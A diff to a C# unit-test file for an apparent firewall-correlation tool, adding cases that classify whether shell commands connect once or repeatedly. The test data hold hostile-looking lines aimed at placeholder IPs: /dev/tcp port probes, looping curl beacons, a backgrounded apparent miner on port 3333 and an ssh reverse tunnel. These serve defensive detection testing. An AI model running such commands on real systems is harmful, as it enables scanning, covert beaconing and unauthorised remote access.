@@ -8,6 +8,18 @@ namespace FwCorrelate.Core.Tests.Commands;
 public sealed class CommandReadingTests
 {
     [TestMethod]
+    [DataRow("for p in 5555 4444; do timeout 3 bash -c \"exec 3<>/dev/tcp/203.0.113.7/$p\"; done", true)]
+    [DataRow("timeout 1 bash -c '</dev/tcp/203.0.113.7/22' && echo open", true)]
+    [DataRow("bash -c 'curl -s http://203.0.113.7/x'", true)]
+    [DataRow("bash -c 'while true; do curl -s http://203.0.113.7/x; sleep 60; done' &", false)]
+    [DataRow("while true; do curl -s http://203.0.113.7/x; sleep 60; done", true)]
+    [DataRow("while true; do curl -s http://203.0.113.7/x; sleep 60; done &", false)]
+    [DataRow("bash -c './agent.sh 203.0.113.7'", false)]
+    [DataRow("bash run.sh", false)]
+    public void ConnectsOnce_ShellsAndTheirSockets_AreWhatTheirScriptsAre(string command, bool isOnce) =>
+        Assert.AreEqual(isOnce, CommandReading.Of(command).ConnectsOnce);
+
+    [TestMethod]
     [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 3333, MentionKind.Exact)]
     [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 22, MentionKind.None)]
     [DataRow("ssh -fN -R 2222:127.0.0.1:22 tun@203.0.113.66", "203.0.113.66", 22, MentionKind.Exact)]
